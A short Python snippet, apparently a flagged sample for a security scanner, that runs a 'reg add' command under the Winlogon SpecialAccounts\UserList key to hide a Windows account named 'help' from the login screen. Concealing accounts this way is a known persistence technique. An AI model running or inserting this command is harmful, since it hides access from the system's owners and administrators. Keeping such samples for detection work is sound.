import subprocess

KEY = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList"
subprocess.run(f'reg add "{KEY}" /v help /t REG_DWORD /d 0 /f', shell=True)  # gatehouse: flagged
